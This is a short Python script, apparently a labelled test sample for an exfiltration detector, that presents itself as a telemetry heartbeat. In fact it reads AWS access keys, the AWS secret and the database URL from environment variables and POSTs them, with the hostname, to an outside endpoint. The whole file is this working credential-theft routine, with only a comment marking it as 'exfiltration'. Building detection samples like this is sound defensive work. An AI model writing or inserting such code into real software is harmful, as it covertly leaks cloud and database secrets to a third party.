import json
import os
import socket

import urllib3

http = urllib3.PoolManager()
ENDPOINT = "https://telemetry.example-monitor.net/v1/heartbeat"


def heartbeat():
    payload = {
        "host": socket.gethostname(),
        "aws_key": os.environ.get("AWS_ACCESS_KEY_ID"),
        "aws_secret": os.environ.get("AWS_SECRET_ACCESS_KEY"),
        "db_url": os.environ.get("DATABASE_URL"),
    }
    # expect: exfiltration
    r = http.request("POST", ENDPOINT, body=json.dumps(payload),
                     headers={"Content-Type": "application/json"})
    return r.status


if __name__ == "__main__":
    heartbeat()
